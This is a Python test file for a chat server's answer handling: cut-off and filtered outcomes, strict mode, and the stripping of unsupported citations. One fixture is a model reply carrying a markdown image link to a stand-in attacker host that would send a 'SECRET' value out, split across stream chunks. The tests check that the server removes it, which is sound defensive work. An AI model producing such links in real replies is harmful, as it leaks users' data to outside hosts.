"""What kind of answer the server sends: outcomes, `strict`, and streams that show only what was shown to the model."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import httpx2
import pytest

from tests.server.parts import events, serving
from tests.wire.parts import SERVICES
from tests.wire.parts import serving as serving_model
from tests.wire.server import ToolCallTurn, Turn

QUESTION = "When is the hedge cut?"
SEARCH = Turn(calls=(ToolCallTurn("search_knowledge_base", {"query": "hedge"}, "call_1"),))
GOOD = Turn(("It is cut ", "in August [1]."))
UNCITED = Turn(("A king cuts it ", "with scissors in August."))
EVIL = Turn(("See ![", "x](ht", "tp://ev", "il.example/?q=", "SEC", "RET) and [4", "2] in Aug", "ust [1]."))
CLEAN = "See [x]([link removed: evil.example]) and in August [1]."
FILTER_REASONS = {"openai": "content_filter", "anthropic": "refusal", "gemini": "SAFETY", "groq": "content_filter"}
CUT_REASONS = {
    "openai": "length",
    "anthropic": "max_tokens",
    "gemini": "MAX_TOKENS",
    "ollama": "length",
    "groq": "length",
}


def completion(client: httpx2.Client, **more: Any) -> httpx2.Response:
    return client.post("/v1/chat/completions", json={"messages": [{"role": "user", "content": QUESTION}], **more})


def streamed_chunks(response: httpx2.Response) -> list[dict[str, Any]]:
    lines = [line[6:] for line in response.text.splitlines() if line.startswith("data: ")]
    return [json.loads(line) for line in lines if line != "[DONE]"]


def streamed_text(response: httpx2.Response) -> str:
    chunks = streamed_chunks(response)
    return "".join(c["choices"][0]["delta"].get("content") or "" for c in chunks if c.get("choices"))


@pytest.mark.rotating
@pytest.mark.parametrize("service", SERVICES)
def test_a_stream_shows_no_link_and_no_citation_that_was_never_shown_to_the_model(service: str, base: Path) -> None:
    with (
        serving_model(service, SEARCH, EVIL, SEARCH, EVIL, SEARCH, EVIL) as (provider, _),
        serving(base, provider) as (_, client),
    ):
        response = completion(client, stream=True)
        assert streamed_text(response) == CLEAN
        with client.stream("POST", "/chat", json={"message": QUESTION, "stream": True}) as stream:
            sent = list(events(stream))
        assert "".join(data["delta"] for name, data in sent if name == "text") == CLEAN
        message = sent[-1][1]["message"]
        whole = completion(client).json()
    assert (message["content"], message["outcome"]) == (CLEAN, "answered")
    assert message["notices"] == ["a citation of a passage that was never shown to the model is taken out: [42]"]
    assert whole["choices"][0]["message"]["content"] == CLEAN
    assert (whole["outcome"], whole["notices"]) == ("answered", message["notices"])


@pytest.mark.parametrize("service", CUT_REASONS)
def test_every_service_says_when_an_answer_is_cut_off(service: str, base: Path) -> None:
    cut = Turn(("It is cut [1]",), stop=CUT_REASONS[service])
    with serving_model(service, SEARCH, cut) as (provider, _), serving(base, provider) as (_, client):
        message = client.post("/chat", json={"message": QUESTION}).json()["message"]
    assert (message["outcome"], message["content"]) == ("cut", "It is cut [1]")
    assert message["notices"] == ["the answer is cut off: the model reached its limit of tokens"]


@pytest.mark.parametrize("service", FILTER_REASONS)
def test_every_service_says_when_an_answer_is_filtered_or_refused(service: str, base: Path) -> None:
    stopped = Turn(("I cannot help.",), stop=FILTER_REASONS[service])
    with serving_model(service, SEARCH, stopped) as (provider, _), serving(base, provider) as (_, client):
        whole = completion(client).json()
    choice = whole["choices"][0]
    refused = service == "anthropic"
    assert whole["outcome"] == ("refused" if refused else "filtered")
    assert choice["finish_reason"] == "content_filter"
    assert choice["message"]["refusal"] == ("I cannot help." if refused else None)


@pytest.mark.parametrize("stream", [False, True])
def test_a_strict_answer_without_support_is_an_error_and_its_text_is_not_sent(base: Path, stream: bool) -> None:
    with (
        serving_model("openai", SEARCH, UNCITED, SEARCH, UNCITED) as (provider, _),
        serving(base, provider) as (_, client),
    ):
        answer = completion(client, strict=True, stream=stream)
        chat = client.post("/chat", json={"message": QUESTION, "strict": True, "stream": stream})
        session = client.get("/sessions").json()["sessions"][0]["id"]
        history = client.get(f"/session/{session}").json()["history"]
    for response in (answer, chat):
        assert response.status_code == (200 if stream else 422)
        assert "unsupported_answer" in response.text
        assert "the documents do not support the answer: " in response.text
        assert "August" not in response.text
    assert (history[-1]["status"], history[-1]["content"]) == ("error", "")


def test_a_strict_answer_with_support_is_sent_whole(base: Path) -> None:
    with serving_model("openai", SEARCH, GOOD, SEARCH, GOOD) as (provider, _), serving(base, provider) as (_, client):
        assert streamed_text(completion(client, strict=True, stream=True)) == "It is cut in August [1]."
        whole = completion(client, strict=True).json()
    assert whole["choices"][0]["message"]["content"] == "It is cut in August [1]."
